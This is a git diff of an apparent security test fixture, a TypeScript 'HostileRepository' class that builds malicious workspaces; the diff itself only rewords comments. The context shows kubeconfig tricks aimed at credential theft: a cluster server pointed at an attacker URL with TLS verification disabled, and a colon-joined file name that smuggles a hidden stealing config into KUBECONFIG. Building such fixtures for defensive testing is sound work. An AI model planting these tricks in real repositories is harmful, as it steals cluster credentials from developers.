@@ -27,7 +27,7 @@ function git(folder: string, ...args: readonly string[]): void {
   execFileSync('git', [...identity, ...args], { cwd: folder, env: GIT_ENV, stdio: 'ignore' });
 }
 
-/** One repository that somebody has made to harm whoever opens it: a workspace with a folder for each trick. */
+/** One repository that was made to harm those who open it: a workspace with a folder for each trick. */
 export class HostileRepository {
   private constructor(
     readonly root: string,
@@ -117,7 +117,7 @@ export class HostileRepository {
     return `${kubeconfig(ARN, other)}- {name: minikube, cluster: {server: "${this.attacker.url}", insecure-skip-tls-verify: true}}\n`;
   }
 
-  /** One file by its name, two in `KUBECONFIG`: the second, which is the stealing one, is looked at by nobody. */
+  /** One file by its name, two in `KUBECONFIG`: the second, which steals, is easy to overlook. */
   private async writeList(): Promise<void> {
     await this.file('list/.kube/config:.kube/evil', kubeconfig(ARN, 'https://127.0.0.1:1'));
     await this.file('list/.kube/evil', this.stealing('https://127.0.0.1:1'));
